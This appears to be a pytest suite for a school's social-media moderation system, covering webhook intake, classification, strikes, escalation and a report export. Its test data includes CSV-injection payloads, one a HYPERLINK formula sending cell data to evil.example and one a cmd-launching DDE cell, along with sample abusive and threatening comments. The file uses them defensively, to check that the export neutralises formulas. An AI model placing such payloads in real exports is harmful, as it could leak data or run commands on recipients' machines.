"""Moderation of the school's official pages: webhook intake, Celery processing, classification, the queue,
strikes, escalation, cover and the report. Uses the marshfields pack (abuse on the official page is 'block',
three removed comments in 90 days block an author)."""
from __future__ import annotations

import json

import pytest
from django.core import mail

from safepost_web.audit.models import AuditEntry
from safepost_web.moderation import connect
from safepost_web.moderation.connectors.base import ConnectorError, FakeConnector
from safepost_web.moderation.intake import sign
from safepost_web.moderation.models import (
    Author, Comment, EventStatus, ModerationError, ModeratorStatus, PageSettings, State, WebhookEvent)

from .conftest import make_world

SECRET, TOKEN, PAGE = "s3cret-app", "verify-me", "1001"
CLEAN = "Lovely assembly today, well done everyone!"
ABUSE = "You're a fucking disgrace, the lot of you"
THREAT = "I will kill you all at the school gate tomorrow"
URL = "/s/brookfield/moderation/webhook/facebook/"


@pytest.fixture
def mworld(db, settings, tmp_path):
    settings.EVIDENCE_ROOT = tmp_path / "evidence"
    w = make_world("marshfields")
    w.page = PageSettings.objects.create(school=w.school, platform="facebook", app_secret=SECRET, verify_token=TOKEN,
                                         page_ids=PAGE)
    w.fake = FakeConnector(platform="facebook")
    connect.use_connector(lambda school, platform: w.fake)
    yield w
    connect.use_connector(None)


@pytest.fixture
def as_user(mworld):
    """as_user('carol') -> a client signed in as carol (this module's world uses the marshfields pack)."""
    from django.test import Client

    def _as(name):
        c = Client()
        c.force_login(mworld.users[name])
        return c

    return _as


def fb(comments, page=PAGE) -> bytes:
    """A Facebook Page 'feed' delivery as Meta documents it, one change per comment."""
    changes = [{"field": "feed", "value": {
        "from": {"id": c.get("author", "u1"), "name": c.get("name", "Pat Smith")}, "item": "comment",
        "verb": c.get("verb", "add"), "post_id": f"{page}_55", "comment_id": c["id"], "parent_id": f"{page}_55",
        "created_time": 1763700000, "message": c.get("text", CLEAN)}} for c in comments]
    return json.dumps({"object": "page", "entry": [{"id": page, "time": 1763700000, "changes": changes}]}).encode()


def deliver(client, body: bytes, signature: str | None = "good", url: str = URL):
    headers = {}
    if signature == "good":
        headers["HTTP_X_HUB_SIGNATURE_256"] = sign(SECRET, body)
    elif signature:
        headers["HTTP_X_HUB_SIGNATURE_256"] = signature
    return client.post(url, data=body, content_type="application/json", **headers)


# -- intake ------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("params,status", [
    ({"hub.mode": "subscribe", "hub.verify_token": TOKEN, "hub.challenge": "12345"}, 200),
    ({"hub.mode": "subscribe", "hub.verify_token": "wrong", "hub.challenge": "12345"}, 403),
    ({"hub.mode": "unsubscribe", "hub.verify_token": TOKEN, "hub.challenge": "12345"}, 403),
    ({"hub.challenge": "12345"}, 403),
    ({"hub.mode": "subscribe", "hub.verify_token": "vérifié", "hub.challenge": "12345"}, 403),
])
def test_handshake(mworld, client, params, status):
    r = client.get(URL, params)
    assert r.status_code == status
    assert (r.content == b"12345") == (status == 200)


@pytest.mark.parametrize("signature,status,stored", [
    ("good", 200, 1),
    (None, 403, 0),
    ("sha256=" + "0" * 64, 403, 0),
    ("sha1=abcdef", 403, 0),
    ("sha256=", 403, 0),
    ("sha256=é" + "0" * 63, 403, 0),
])
def test_signature(mworld, client, signature, status, stored):
    body = fb([{"id": "c1"}])
    r = deliver(client, body, signature)
    assert r.status_code == status
    assert WebhookEvent.objects.count() == stored
    assert Comment.objects.count() == stored


def test_signature_is_over_the_raw_body(mworld, client):
    body = fb([{"id": "c1"}])
    # The same JSON re-serialised with other spacing has another signature: it is refused.
    respaced = json.dumps(json.loads(body), indent=2).encode()
    r = client.post(URL, data=respaced, content_type="application/json", HTTP_X_HUB_SIGNATURE_256=sign(SECRET, body))
    assert r.status_code == 403 and not WebhookEvent.objects.exists()


def test_event_stored_whole(mworld, client):
    body = fb([{"id": "c1", "text": CLEAN}])
    assert deliver(client, body).status_code == 200
    ev = WebhookEvent.objects.get()
    assert bytes(ev.body) == body
    assert ev.headers["X-Hub-Signature-256"] == sign(SECRET, body)
    assert ev.status == EventStatus.PROCESSED and ev.received is not None
    c = Comment.objects.get()
    assert (c.comment_id, c.author.platform_id, c.text, c.event_id) == ("c1", "u1", CLEAN, ev.pk)
    assert c.link == f"https://www.facebook.com/{PAGE}_55?comment_id=c1"


def test_duplicate_delivery_is_one_comment(mworld, client):
    body = fb([{"id": "c1", "text": ABUSE}])
    deliver(client, body)
    deliver(client, body)
    assert WebhookEvent.objects.count() == 2  # every delivery is kept as it came
    assert Comment.objects.count() == 1
    assert AuditEntry.objects.filter(action="moderation.hidden").count() == 0  # auto-hide is off: queued once


def test_unknown_page_is_logged_and_answered(mworld, client, caplog):
    r = deliver(client, fb([{"id": "c1"}], page="999"))
    assert r.status_code == 200  # Meta stops retrying
    ev = WebhookEvent.objects.get()
    assert ev.status == EventStatus.IGNORED and "999" in ev.error
    assert not Comment.objects.exists()
    assert "does not own" in caplog.text


def test_unknown_school_or_platform(mworld, client):
    assert client.get("/s/nowhere/moderation/webhook/facebook/", {"hub.mode": "subscribe"}).status_code == 404
    assert client.get("/s/brookfield/moderation/webhook/instagram/", {"hub.mode": "subscribe"}).status_code == 404
    assert client.get("/s/brookfield/moderation/webhook/myspace/").status_code == 404


@pytest.mark.parametrize("body", [b"{not json", b"\xff\xfe\x00garbage", b"[1, 2, 3]", b'{"object": "page"}', b""])
def test_malformed_body_stored_and_refused(mworld, client, body):
    r = deliver(client, body)
    assert r.status_code == 200
    ev = WebhookEvent.objects.get()
    assert ev.status == EventStatus.REFUSED and bytes(ev.body) == body and ev.error
    assert not Comment.objects.exists()


def test_ten_megabyte_body_refused(mworld, client, caplog):
    body = b'{"object": "page", "entry": [], "pad": "' + b"x" * (10 * 1024 * 1024) + b'"}'
    r = deliver(client, body)
    assert r.status_code == 413
    ev = WebhookEvent.objects.get()
    assert ev.status == EventStatus.REFUSED and bytes(ev.body) == b"" and "1 MB" in ev.error
    assert not Comment.objects.exists()


def test_instagram_comment(mworld, client):
    PageSettings.objects.create(school=mworld.school, platform="instagram", app_secret=SECRET, verify_token=TOKEN,
                                page_ids="17841400000")
    body = json.dumps({"object": "instagram", "entry": [{"id": "17841400000", "time": 1763700000, "changes": [
        {"field": "comments", "value": {"from": {"id": "ig9", "username": "sam_parent"},
                                        "media": {"id": "m1", "media_product_type": "FEED"},
                                        "id": "igc1", "text": CLEAN}}]}]}).encode()
    assert deliver(client, body, url="/s/brookfield/moderation/webhook/instagram/").status_code == 200
    c = Comment.objects.get()
    assert (c.platform, c.comment_id, c.author_name, c.state) == ("instagram", "igc1", "sam_parent", State.CLEAN)


# -- processing through Celery -----------------------------------------------------------------------------------
def test_eager_celery_path(mworld):
    from safepost_web.celery import app

    assert app.conf.task_always_eager is True
    from safepost_web.moderation.tasks import process_event

    ev = WebhookEvent.objects.create(school=mworld.school, platform="facebook", body=fb([{"id": "c9"}]))
    assert process_event.delay(ev.pk).get() == "processed"
    assert process_event.delay(ev.pk).get() == "nothing to do"  # a re-delivered task does nothing twice
    assert Comment.objects.get().state == State.CLEAN


def test_failed_processing_keeps_event_and_rerun_succeeds(mworld, client, as_user, monkeypatch):
    from safepost_web.moderation import tasks

    calls = []

    def broken(ev):
        calls.append(ev.pk)
        raise RuntimeError("database went away")

    monkeypatch.setattr(tasks, "ingest", broken)
    body = fb([{"id": "c1", "text": CLEAN}])
    assert deliver(client, body).status_code == 200
    ev = WebhookEvent.objects.get()
    assert bytes(ev.body) == body  # stored before processing, still there
    assert ev.status == EventStatus.FAILED and "database went away" in ev.error
    assert len(calls) == tasks.MAX_RETRIES + 1 and ev.attempts == tasks.MAX_RETRIES + 1
    assert not Comment.objects.exists()
    page = as_user("alice").get("/s/brookfield/moderation/events/")
    assert b"database went away" in page.content and b"Run again" in page.content
    monkeypatch.undo()
    r = as_user("alice").post(f"/s/brookfield/moderation/events/{ev.pk}/rerun/")
    assert r.status_code == 302
    ev.refresh_from_db()
    assert ev.status == EventStatus.PROCESSED and Comment.objects.get().comment_id == "c1"
    assert AuditEntry.objects.filter(action="moderation.event_rerun").exists()
    with pytest.raises(ModerationError):
        ev.requeue(mworld.alice)  # nothing to re-run now


# -- classification ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("auto_hide,text,state,hidden", [
    (True, ABUSE, State.HIDDEN, True),
    (True, CLEAN, State.CLEAN, False),
    (False, ABUSE, State.PENDING, False),
    (False, CLEAN, State.CLEAN, False),
    (True, "Call me on 07700 900123 for cheap tutoring", State.HIDDEN, True),
])
def test_classification_and_auto_hide(mworld, client, auto_hide, text, state, hidden):
    PageSettings.objects.filter(pk=mworld.page.pk).update(auto_hide=auto_hide)
    deliver(client, fb([{"id": "c1", "text": text}]))
    c = Comment.objects.get()
    assert c.state == state
    assert ("c1" in mworld.fake.hidden) == hidden
    if state != State.CLEAN:
        assert c.verdict == "block" and c.findings and all(f["clause"] for f in c.findings if f["severity"] != "info")


@pytest.mark.parametrize("text,note", [
    ("😡😡😡", "emoji"),
    ("🤮🤮 👎", "emoji"),
    ("Très bien fait les enfants, bravo à toute l'équipe pour le spectacle", "not in English"),
    ("Dziękujemy bardzo za wspaniały koncert, dzieci były cudowne", "not in English"),
    ("", "No text"),
])
def test_unreadable_comments_wait_for_a_person(mworld, client, text, note):
    deliver(client, fb([{"id": "c1", "text": text}]))
    c = Comment.objects.get()
    assert c.state == State.PENDING and note in c.note


def test_connector_failure_leaves_comment_queued_with_note(mworld, client):
    PageSettings.objects.filter(pk=mworld.page.pk).update(auto_hide=True)
    mworld.fake.fail["hide"] = "expired_token"
    deliver(client, fb([{"id": "c1", "text": ABUSE}]))
    c = Comment.objects.get()
    assert c.state == State.PENDING and "reconnect" in c.note


# -- the queue ---------------------------------------------------------------------------------------------------
def _comment(w, cid, text=CLEAN, rank=-1, author="u1", **kw):
    a, _ = Author.objects.get_or_create(school=w.school, platform="facebook", platform_id=author)
    return Comment.objects.create(school=w.school, platform="facebook", comment_id=cid, author=a, text=text,
                                  severity_rank=rank, state=kw.pop("state", State.PENDING), **kw)


def test_queue_order_highest_severity_then_oldest(mworld, as_user):
    import datetime as dt

    from django.utils import timezone

    now = timezone.now()
    _comment(mworld, "low-old", rank=1, received=now - dt.timedelta(hours=5))
    _comment(mworld, "high-new", rank=3, received=now)
    _comment(mworld, "high-old", rank=3, received=now - dt.timedelta(hours=1))
    _comment(mworld, "done", rank=4, state=State.KEPT)
    html = as_user("carol").get("/s/brookfield/moderation/queue/").content.decode()
    pos = [html.find(f"comment {c}<") for c in ("high-old", "high-new", "low-old")]
    assert -1 not in pos and pos == sorted(pos)
    assert "comment done<" not in html


@pytest.mark.parametrize("action,state,platform_call", [
    ("keep", State.KEPT, None),
    ("hide", State.HIDDEN, ("hide", "c1")),
    ("delete", State.DELETED, ("delete", "c1")),
    ("block", State.HIDDEN, ("block", "u1")),
])
def test_action_guard_and_audit(mworld, as_user, action, state, platform_call):
    c = _comment(mworld, "c1", ABUSE)
    r = as_user("carol").post(f"/s/brookfield/moderation/comments/{c.pk}/act/", {"action": action, "reason": "r"})
    assert r.status_code == 302
    c.refresh_from_db()
    assert c.state == state and c.actioned_by == mworld.carol
    if platform_call:
        assert platform_call in mworld.fake.calls
    assert AuditEntry.objects.filter(actor=mworld.carol, action__startswith="moderation.").exists()
    # The guard: the same action again on a decided comment is refused and changes nothing.
    if action != "block":
        n = AuditEntry.objects.count()
        with pytest.raises(ModerationError):
            c.apply(action, mworld.carol)
        assert AuditEntry.objects.count() == n


def test_delete_keeps_record_and_shows_removed(mworld, as_user):
    c = _comment(mworld, "c1", ABUSE)
    c.delete_on_platform(mworld.carol)
    assert Comment.objects.filter(pk=c.pk, text=ABUSE, removed_on_platform=True).exists()
    assert b"Already removed on Facebook" in as_user("carol").get(f"/s/brookfield/moderation/comments/{c.pk}/").content


def test_already_deleted_on_platform(mworld):
    c = _comment(mworld, "c1", ABUSE)
    mworld.fake.fail["hide"] = "already_deleted"
    c.hide(mworld.carol)
    assert c.state == State.HIDDEN and c.removed_on_platform


@pytest.mark.parametrize("kind,words", [("rate_limited", "slow down"), ("expired_token", "reconnect")])
def test_connector_errors_refuse_with_plain_english(mworld, kind, words):
    c = _comment(mworld, "c1", ABUSE)
    mworld.fake.fail["delete"] = kind
    with pytest.raises(ModerationError, match=words):
        c.delete_on_platform(mworld.carol)
    c.refresh_from_db()
    assert c.state == State.PENDING and not c.removed_on_platform


def test_unknown_action_refused(mworld):
    with pytest.raises(ModerationError):
        _comment(mworld, "c1").apply("publish", mworld.carol)


def test_bulk_actions(mworld, as_user):
    a, b, kept = _comment(mworld, "c1"), _comment(mworld, "c2"), _comment(mworld, "c3", state=State.KEPT)
    r = as_user("carol").post("/s/brookfield/moderation/queue/bulk/",
                              {"action": "hide", "ids": [a.pk, b.pk, kept.pk]}, follow=True)
    assert {c.state for c in Comment.objects.filter(pk__in=[a.pk, b.pk])} == {State.HIDDEN}
    kept.refresh_from_db()
    assert kept.state == State.KEPT and b"already" in r.content
    assert AuditEntry.objects.filter(action="moderation.hidden").count() == 2


# -- strikes and blocks ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("auto_block,blocked", [(True, True), (False, False)])
def test_third_strike(mworld, auto_block, blocked):
    PageSettings.objects.filter(pk=mworld.page.pk).update(auto_block=auto_block)
    for i in range(3):
        # The display name changes; the platform id is the same author.
        Author.objects.filter(platform_id="u7").update(name=f"Name {i}")
        _comment(mworld, f"c{i}", ABUSE, author="u7").hide(mworld.carol)
        a = Author.objects.get(platform_id="u7")
        assert a.blocked == (blocked and i == 2)
        assert a.block_suggested == (not blocked and i == 2)
    assert ("block", "u7") in mworld.fake.calls if blocked else ("block", "u7") not in mworld.fake.calls


def test_two_strikes_do_not_block(mworld):
    PageSettings.objects.filter(pk=mworld.page.pk).update(auto_block=True)
    for i in range(2):
        _comment(mworld, f"c{i}", ABUSE, author="u7").hide(mworld.carol)
    _comment(mworld, "c9", CLEAN, author="u7").keep(mworld.carol)
    assert not Author.objects.get(platform_id="u7").blocked


def test_school_override_of_strike_limit(mworld):
    PageSettings.objects.filter(pk=mworld.page.pk).update(auto_block=True, strike_limit=1)
    _comment(mworld, "c1", ABUSE, author="u7").hide(mworld.carol)
    assert Author.objects.get(platform_id="u7").blocked


@pytest.mark.parametrize("reason,ok", [("", False), ("   ", False), ("Apologised to the head in person", True)])
def test_unblock_needs_a_reason(mworld, as_user, reason, ok):
    a = Author.objects.create(school=mworld.school, platform="facebook", platform_id="u7", blocked=True)
    as_user("carol").post(f"/s/brookfield/moderation/authors/{a.pk}/unblock/", {"reason": reason})
    a.refresh_from_db()
    assert a.blocked != ok
    assert AuditEntry.objects.filter(action="moderation.author_unblocked", reason=reason.strip()).exists() == ok


# -- escalation ----------------------------------------------------------------------------------------------------
def test_escalation_opens_incident_and_emails_dsl(mworld, client, django_capture_on_commit_callbacks):
    from safepost_web.incidents.models import Case, Evidence, Report
    from safepost_web.incidents.service import verify_school

    PageSettings.objects.filter(pk=mworld.page.pk).update(auto_hide=True)
    body = fb([{"id": "c1", "text": THREAT, "author": "u66", "name": "Angry Person"}])
    with django_capture_on_commit_callbacks(execute=True) as sent:  # the email goes once the escalation is saved
        deliver(client, body)
    assert len(sent) == 1
    c = Comment.objects.get()
    assert c.state == State.ESCALATED and c.hidden_on_platform and "c1" in mworld.fake.hidden
    rep = Report.objects.get()
    assert c.incident_report == rep and rep.kind == "malicious_posting" and THREAT in rep.text
    case = Case.objects.get()
    assert rep.case == case and case.severity == "critical"
    ev = Evidence.objects.get(report=rep)
    with open(ev.path, "rb") as fh:
        doc = json.load(fh)
    assert doc["text"] == THREAT and doc["author_id"] == "u66" and doc["raw_event"]["text"] == body.decode()
    assert verify_school(mworld.school) == []
    assert len(mail.outbox) == 1
    assert set(mail.outbox[0].to) == {"alice@brookfield.sch.uk", "erin@brookfield.sch.uk"}
    assert THREAT not in mail.outbox[0].body
    # Deleted on the platform afterwards: the evidence and record stay.
    c.delete_on_platform(mworld.erin)
    assert Evidence.objects.filter(report=rep).exists() and Comment.objects.get().text == THREAT
    # Escalating again is refused; the same comment re-delivered opens nothing new.
    with pytest.raises(ModerationError):
        c.escalate(mworld.erin)
    with django_capture_on_commit_callbacks(execute=True):
        deliver(client, body)
    assert Report.objects.count() == 1 and len(mail.outbox) == 1


def test_manual_escalation(mworld, as_user, django_capture_on_commit_callbacks):
    c = _comment(mworld, "c1", "This comment worries me")
    with django_capture_on_commit_callbacks(execute=True):
        as_user("carol").post(f"/s/brookfield/moderation/comments/{c.pk}/act/", {"action": "escalate", "reason": "r"})
    c.refresh_from_db()
    assert c.state == State.ESCALATED and c.incident_report.case is not None and len(mail.outbox) == 1


def test_no_email_when_the_escalation_is_rolled_back(mworld):
    """A worker killed (or any error) before the commit: no incident and no email, so a retry sends exactly one."""
    from django.db import transaction

    from safepost_web.incidents.models import Report

    c = _comment(mworld, "c1", "This comment worries me")
    with pytest.raises(RuntimeError):
        with transaction.atomic():
            c.escalate(mworld.users["carol"], "r")
            raise RuntimeError("worker killed")
    assert Report.objects.count() == 0 and len(mail.outbox) == 0


PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")


def test_escalation_keeps_the_moderators_screenshot(mworld, as_user):
    import hashlib

    from django.core.files.uploadedfile import SimpleUploadedFile

    c = _comment(mworld, "c1", "Meet me after school, don't tell your mum")
    page = as_user("carol").get(f"/s/brookfield/moderation/comments/{c.pk}/")
    assert b"Escalate with a screenshot" in page.content and b'enctype="multipart/form-data"' in page.content
    r = as_user("carol").post(f"/s/brookfield/moderation/comments/{c.pk}/act/", {
        "action": "escalate", "reason": "it may be deleted", "screenshot": SimpleUploadedFile("shot.png", PNG)})
    assert r.status_code == 302
    c.refresh_from_db()
    assert c.state == State.ESCALATED
    kept = {e.original_name: e.sha256 for e in c.incident_report.evidence.all()}
    assert kept["shot.png"] == hashlib.sha256(PNG).hexdigest()
    assert any(n.startswith("comment-facebook-c1") for n in kept)
    # Once escalated, the form is gone (more files go on the case page).
    assert b"Escalate with a screenshot" not in as_user("carol").get(f"/s/brookfield/moderation/comments/{c.pk}/").content


@pytest.mark.parametrize("name,body", [
    ("shot.png", b"just some text pretending"),   # named as a picture, is not one
    ("empty.png", b""),                           # nothing in it
    ("run.exe", b"MZ\x90\x00" + b"\x00" * 60),   # a program
])
def test_a_bad_screenshot_escalates_nothing(mworld, as_user, name, body):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from safepost_web.incidents.models import Report

    c = _comment(mworld, "c1", "This comment worries me")
    r = as_user("carol").post(f"/s/brookfield/moderation/comments/{c.pk}/act/", {
        "action": "escalate", "screenshot": SimpleUploadedFile(name, body)}, follow=True)
    c.refresh_from_db()
    assert c.state == State.PENDING and Report.objects.count() == 0 and len(mail.outbox) == 0
    assert b"was not escalated" in r.content and b"Traceback" not in r.content


def test_staff_cannot_escalate_with_a_screenshot(mworld, as_user):
    from django.core.files.uploadedfile import SimpleUploadedFile

    c = _comment(mworld, "c1", "This comment worries me")
    r = as_user("bob").post(f"/s/brookfield/moderation/comments/{c.pk}/act/", {
        "action": "escalate", "screenshot": SimpleUploadedFile("shot.png", PNG)})
    c.refresh_from_db()
    assert r.status_code == 403 and c.state == State.PENDING


# -- cover -------------------------------------------------------------------------------------------------------------
def test_cover_warnings(mworld, as_user):
    from safepost_web.moderation.views import cover_warnings

    assert any("Only 1 moderator" in w for w in cover_warnings(mworld.school))  # carol only
    from safepost_web.schools.models import Membership

    Membership.objects.filter(user=mworld.dave).update(role="moderator")
    assert cover_warnings(mworld.school) == []
    as_user("carol").post("/s/brookfield/moderation/cover/", {"absent": "on", "covered_by": ""})
    w = cover_warnings(mworld.school)
    assert any("nobody covers" in x for x in w) and any("Only 1 moderator" in x for x in w)
    ModeratorStatus.objects.filter(user=mworld.carol).update(covered_by=mworld.alice)
    assert not any("nobody covers" in x for x in cover_warnings(mworld.school))


def test_overdue_warning(mworld, as_user):
    import datetime as dt

    from django.utils import timezone

    from safepost_web.moderation.views import cover_warnings

    _comment(mworld, "fresh")
    assert not any("waited longer" in w for w in cover_warnings(mworld.school))
    _comment(mworld, "old", received=timezone.now() - dt.timedelta(hours=25))
    assert any("1 comment has waited longer than 24 hours" in w for w in cover_warnings(mworld.school))
    assert b"waited longer than 24 hours" in as_user("carol").get("/s/brookfield/moderation/").content


# -- import and report ----------------------------------------------------------------------------------------------
def test_import_csv_and_json(mworld, as_user):
    from django.core.files.uploadedfile import SimpleUploadedFile

    csv_body = ("comment_id,author_id,author_name,text\nyt1,a1,Sam,Lovely concert\nyt2,a2,Jo," + ABUSE + "\n").encode()
    c = as_user("carol")
    r = c.post("/s/brookfield/moderation/import/", {"platform": "youtube",
                                                    "file": SimpleUploadedFile("c.csv", csv_body, "text/csv")})
    assert r.status_code == 302
    js = json.dumps([{"comment_id": "yt2", "text": ABUSE}, {"comment_id": "yt3", "text": "Thanks!"}]).encode()
    c.post("/s/brookfield/moderation/import/", {"platform": "youtube",
                                                "file": SimpleUploadedFile("c.json", js, "application/json")})
    assert sorted(Comment.objects.values_list("comment_id", "state")) == [
        ("yt1", "clean"), ("yt2", "pending"), ("yt3", "clean")]


@pytest.mark.parametrize("name,body", [("c.csv", b"id,words\n1,hello\n"), ("c.json", b"{nope"), ("c.txt", b"x"),
                                       ("c.csv", b"comment_id,text\n,hello\n")])
def test_bad_import_refused_clearly(mworld, as_user, name, body):
    from django.core.files.uploadedfile import SimpleUploadedFile

    r = as_user("carol").post("/s/brookfield/moderation/import/",
                              {"platform": "youtube", "file": SimpleUploadedFile(name, body)})
    assert r.status_code == 400 and not WebhookEvent.objects.exists() and not Comment.objects.exists()


def test_report_chart_and_csv(mworld, as_user, client):
    deliver(client, fb([{"id": "c1", "text": ABUSE}, {"id": "c2", "text": CLEAN}]))
    Comment.objects.get(comment_id="c1").hide(mworld.carol)
    r = as_user("carol").get("/s/brookfield/moderation/report/")
    assert b"data:image/png;base64," in r.content
    csv_text = as_user("carol").get("/s/brookfield/moderation/report.csv").content.decode()
    lines = csv_text.splitlines()
    assert lines[0].startswith("month,received,removed")
    assert any(",2,1,0," in line and "offensive_language" in line for line in lines[1:])


# Cells a spreadsheet would run as formulas (OWASP "CSV injection"): the export shows them as text.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click for your prize")', "+44 7700 900123 ring me",
            "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_report_csv_with_formula_comments_holds_no_formula(mworld, as_user, client):
    import csv
    import io

    from safepost_web.core.spreadsheet import FORMULA_STARTS

    deliver(client, fb([{"id": f"f{i}", "text": t} for i, t in enumerate(FORMULAS)]))
    assert Comment.objects.filter(text=FORMULAS[0]).exists()
    r = as_user("carol").get("/s/brookfield/moderation/report.csv")
    cells = [c for row in csv.reader(io.StringIO(r.content.decode())) for c in row]
    assert "6" in cells and not any(c.startswith(FORMULA_STARTS) for c in cells)


@pytest.mark.parametrize("cell", FORMULAS)
def test_report_csv_quotes_a_formula_cell(cell):
    import csv
    import io

    from safepost_web.moderation import report as mreport

    rows = [{"month": "2026-11", "received": 1, "removed": 0, "escalated": 0, "median_hours": None,
             "categories": {cell: 1, "offensive_language": 2}}]
    out = list(csv.reader(io.StringIO(mreport.to_csv(rows))))
    assert [r[5] for r in out[1:]] == ["'" + cell, "offensive_language"]


# -- who may see what -------------------------------------------------------------------------------------------------
MOD_PAGES = ["", "queue/", "authors/", "cover/", "import/", "report/", "report.csv", "comments/{c}/"]
ADMIN_PAGES = ["events/", "settings/facebook/"]


@pytest.mark.parametrize("page", MOD_PAGES)
@pytest.mark.parametrize("who,ok", [("carol", True), ("alice", True), ("erin", True), ("bob", False),
                                    ("dave", False), ("frank", False), ("grace", False), ("mallory", False)])
def test_moderator_pages_roles(mworld, as_user, page, who, ok):
    c = _comment(mworld, "c1")
    r = as_user(who).get("/s/brookfield/moderation/" + page.format(c=c.pk))
    assert r.status_code == (200 if ok else 403)


@pytest.mark.parametrize("page", ADMIN_PAGES)
@pytest.mark.parametrize("who,ok", [("alice", True), ("grace", True), ("carol", False), ("erin", False),
                                    ("bob", False), ("mallory", False)])
def test_admin_pages_roles(mworld, as_user, page, who, ok):
    assert as_user(who).get("/s/brookfield/moderation/" + page).status_code == (200 if ok else 403)


@pytest.mark.parametrize("who", ["bob", "dave", "frank", "grace", "mallory"])
def test_refused_posts_change_nothing(mworld, as_user, who):
    c = _comment(mworld, "c1", ABUSE)
    a = Author.objects.create(school=mworld.school, platform="facebook", platform_id="u9", blocked=True)
    ev = WebhookEvent.objects.create(school=mworld.school, platform="facebook", body=b"{}", status="failed")
    u = as_user(who)
    codes = [u.post(f"/s/brookfield/moderation/comments/{c.pk}/act/", {"action": "hide"}).status_code,
             u.post("/s/brookfield/moderation/queue/bulk/", {"action": "hide", "ids": [c.pk]}).status_code,
             u.post(f"/s/brookfield/moderation/authors/{a.pk}/unblock/", {"reason": "x"}).status_code,
             u.post("/s/brookfield/moderation/cover/", {"absent": "on"}).status_code]
    if who != "grace":  # grace (administrator) may re-run deliveries
        codes.append(u.post(f"/s/brookfield/moderation/events/{ev.pk}/rerun/").status_code)
    assert set(codes) == {403}
    c.refresh_from_db()
    a.refresh_from_db()
    assert c.state == State.PENDING and a.blocked and not mworld.fake.calls
    assert not AuditEntry.objects.filter(action__startswith="moderation.").exists()


def test_mallory_cannot_reach_brookfield_objects_through_her_school(mworld, as_user):
    c = _comment(mworld, "c1", ABUSE)
    r = as_user("mallory").post(f"/s/riverside/moderation/comments/{c.pk}/act/", {"action": "hide"})
    assert r.status_code == 404  # she moderates Riverside (headteacher), but this comment is Brookfield's
    assert Comment.objects.get(pk=c.pk).state == State.PENDING


def test_settings_saved_by_headteacher(mworld, as_user):
    r = as_user("alice").post("/s/brookfield/moderation/settings/facebook/", {
        "app_secret": "new", "verify_token": TOKEN, "page_ids": "1001,1002", "default_author": "parent",
        "target_hours": "12", "auto_hide": "on"})
    assert r.status_code == 302
    ps = PageSettings.objects.get(pk=mworld.page.pk)
    assert ps.page_id_list == ["1001", "1002"] and ps.auto_hide and ps.target_hours == 12
    assert "new" not in AuditEntry.objects.get(action="moderation.settings_changed").detail


# -- the demo --------------------------------------------------------------------------------------------------------
def test_demo_replay_fills_the_queue(mworld):
    from safepost_web.moderation.demo import seed_moderation

    PageSettings.objects.filter(pk=mworld.page.pk).delete()
    assert seed_moderation(mworld.school) == 3
    assert seed_moderation(mworld.school) == 0  # again: nothing twice
    states = dict(Comment.objects.values_list("comment_id", "state"))
    assert len(states) == 20
    assert states["p2_c11"] == State.ESCALATED  # the threat
    assert states["p1_c01"] == State.CLEAN
    assert states["p1_c07"] == State.PENDING and states["p2_c10"] == State.PENDING  # Polish, emoji only
    # The demo page hides at once what the policy says must go (here marshfields: abuse, adverts, phone numbers).
    hidden = {c for c, st in states.items() if st == State.HIDDEN}
    assert hidden == {"p1_c03", "p1_c04", "p1_c06", "p2_c08", "p2_c14", "p3_c15", "p3_c18", "p3_c20"}
    assert set(Comment.objects.filter(hidden_on_platform=True).values_list("comment_id", flat=True)) == hidden | {"p2_c11"}
    assert {c for c, st in states.items() if st == State.PENDING} == {"p1_c07", "p2_c10"}  # Polish, emoji: a person
    offender = Author.objects.get(platform_id="m102")
    assert offender.comments.count() == 3 and offender.name == "G Hollis"
    assert Author.objects.get(pk=offender.pk).block_suggested  # third strike: a block is suggested


def test_failed_check_marks_the_event_and_rerun_checks_it(mworld, client, as_user, monkeypatch):
    from safepost_web.checks import service

    monkeypatch.setattr(service, "run_check", lambda *a, **k: (_ for _ in ()).throw(RuntimeError("pack unreadable")))
    deliver(client, fb([{"id": "c1", "text": ABUSE}]))
    ev, c = WebhookEvent.objects.get(), Comment.objects.get()
    assert ev.status == EventStatus.FAILED and "pack unreadable" in ev.error and c.state == State.NEW
    monkeypatch.undo()
    as_user("grace").post(f"/s/brookfield/moderation/events/{ev.pk}/rerun/")
    c.refresh_from_db()
    assert c.state == State.PENDING and c.verdict == "block"


def test_escalation_shows_on_the_dsl_dashboard(mworld, client, as_user):
    deliver(client, fb([{"id": "c1", "text": THREAT}]))
    from safepost_web.incidents.models import Case

    ref = Case.objects.get().reference
    assert ref.encode() in as_user("erin").get("/s/brookfield/moderation/").content
    assert b"Nothing escalated" in as_user("mallory").get("/s/riverside/moderation/").content


def test_without_a_connector_the_moderator_is_told_to_act_by_hand(mworld):
    connect.use_connector(None)  # the real lookup: no access token, so no connector
    assert connect.connector_for(mworld.school, "facebook") is None
    c = _comment(mworld, "c1", ABUSE)
    c.hide(mworld.carol)
    assert c.state == State.HIDDEN
    assert "yourself" in AuditEntry.objects.get(action="moderation.hidden").detail


def test_connector_found_from_page_settings(mworld):
    connect.use_connector(None)
    PageSettings.objects.filter(pk=mworld.page.pk).update(access_token="EAAB-test-token")
    conn = connect.connector_for(mworld.school, "facebook")
    assert conn is not None and type(conn).__name__ == "FacebookConnector"
